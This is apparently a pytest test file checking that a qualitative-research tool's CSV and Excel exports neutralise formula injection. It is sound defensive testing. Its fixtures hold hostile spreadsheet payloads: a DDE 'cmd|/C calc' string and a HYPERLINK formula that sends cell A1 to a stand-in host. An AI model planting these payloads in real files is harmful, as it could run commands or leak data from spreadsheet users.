"""Exports a spreadsheet can't be tricked by: no cell runs as a formula (OWASP's rule).

A transcript, an attribute, a code label or a memo can start with ``=``, ``+``, ``-``, ``@``,
tab or CR; every CSV and workbook export writes such a cell as text: in CSV with a leading
``'``, in a workbook as a text cell with Excel's quote prefix. Body, header and index alike.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from kwali.export import EXPORTERS, export
from kwali.export.files import FORMULA_START, neutralise, write_csv, write_xlsx
from kwali.model import Code, Codebook
from kwali.store import Project

from helpers import add_interview

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
DDE = "+cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
SENTENCES = [f"{start} zin {n}." for n, start in enumerate(HOSTILE * 2)] + ["\tTab.", "\rCR."]
CODEBOOK = Codebook(
    "formules",
    (
        Code("verplichting", "=categorie", kind="category", definition="=definitie"),
        Code("dwang", HYPERLINK, parent="verplichting", include="+wel", exclude="-niet"),
        Code("sanctie", DDE, parent="verplichting", examples=("@voorbeeld",)),
        Code("gezondheid", "-2+3"),
        Code("taal", "@SUM(1)"),
    ),
)
# Attribute names and values: the --by groups, the quote columns, the respondents' columns.
ATTRIBUTES = [
    {"=rol": HYPERLINK, "+aanpak": "@A1", "geslacht": "vrouw"},
    {"=rol": DDE, "+aanpak": "-B2", "geslacht": "man"},
]
# Every CSV/XLSX export, with options that put the hostile names in its header.
OPTIONS = {
    "quotes": {"context": 1, "attribution": ("=rol", "+aanpak")},
    "codebook": {},
    "memos": {},
    "respondents": {},
    "frequencies": {"by": "=rol"},
    "matrix": {"by": "+aanpak"},
    "cooccurrence": {},
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Two interviews whose every text starts with a formula character."""
    path = tmp_path_factory.mktemp("hostile") / "formules.kwali"
    with Project.create(path) as project:
        project.set_codebook(CODEBOOK)
        for number, attributes in enumerate(ATTRIBUTES):
            sentences = [s for s in add_interview(project, HOSTILE[number], SENTENCES, 3)]
            document_id = sentences[0].document_id
            for key, value in attributes.items():
                project.set_attribute(document_id, key, value)
            units = [s for s in sentences if s.kind == "sentence"]
            for unit, code in zip(units, ["dwang", "sanctie", "gezondheid", "taal"], strict=False):
                project.add_coding(document_id, unit.start, unit.end, code, "anna", memo=DDE)
                project.add_coding(document_id, unit.start, unit.end, "dwang", "bram")
            project.add_memo("document", str(document_id), HYPERLINK, "anna")
        project.add_memo("project", "", "@memo over alles", "anna")
    return path


def _csv_cells(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_every_csv_and_workbook_export_is_covered():
    tables = {name for name, e in EXPORTERS.items() if {"csv", "xlsx"} & set(e.formats)}
    assert tables == set(OPTIONS)  # a new table export must join this proof


@pytest.mark.parametrize("what", sorted(OPTIONS))
def test_no_csv_cell_starts_with_a_formula_character(hostile, tmp_path, what):
    with Project.open(hostile, readonly=True) as project:
        out = export(project, what, tmp_path / f"{what}.csv", **OPTIONS[what]).path
    rows = _csv_cells(out)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    quoted = [c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_START)]
    assert quoted, f"{what}: the study put no formula-like text in this export"
    if what in ("quotes", "respondents", "frequencies", "matrix", "cooccurrence"):
        assert any(c.startswith("'") for c in rows[0]), f"{what}: the header was not tested"


@pytest.mark.parametrize("what", sorted(OPTIONS))
def test_no_workbook_cell_is_a_formula(hostile, tmp_path, what):
    with Project.open(hostile, readonly=True) as project:
        out = export(project, what, tmp_path / f"{what}.xlsx", **OPTIONS[what]).path
    book = openpyxl.load_workbook(out)
    risky = []
    for sheet in book.worksheets:
        assert not sheet.title.startswith(FORMULA_START)
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{what}: {cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    risky.append(cell)
    assert risky, f"{what}: the study put no formula-like text in this export"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)
    texts = {cell.value for cell in risky}
    assert texts & {HYPERLINK, DDE, "=categorie", "@memo over alles", "+aanpak"}  # verbatim
    if what in ("quotes", "respondents", "frequencies", "matrix", "cooccurrence"):
        assert any(cell.row == 1 for cell in risky), f"{what}: the header was not tested"


def test_numbers_stay_numbers_and_only_text_is_touched(tmp_path):
    import pandas as pd

    table = pd.DataFrame({"-x": [-3, 2], "tekst": ["-3", "a-b"], "f": [-0.5, 1.5]})
    assert neutralise(-3) == -3 and neutralise("-3") == "'-3" and neutralise("a=b") == "a=b"
    rows = _csv_cells(write_csv(table, tmp_path / "n.csv"))
    assert rows == [["'-x", "tekst", "f"], ["-3", "'-3", "-0.5"], ["2", "a-b", "1.5"]]
    sheet = openpyxl.load_workbook(write_xlsx({"=blad": table}, tmp_path / "n.xlsx")).active
    assert sheet.title == "blad"
    assert [c.value for c in sheet["A"]] == ["-x", -3, 2] and sheet["A2"].data_type == "n"
    assert sheet["A1"].quotePrefix and sheet["B2"].quotePrefix and not sheet["B3"].quotePrefix


def test_an_index_is_neutralised_too(tmp_path):
    import pandas as pd

    table = pd.DataFrame({"n": [1]}, index=pd.Index(["=A1"], name="@code"))
    text = write_csv(table, tmp_path / "i.csv", index=True).read_text(encoding="utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["'@code", "n"], ["'=A1", "1"]]
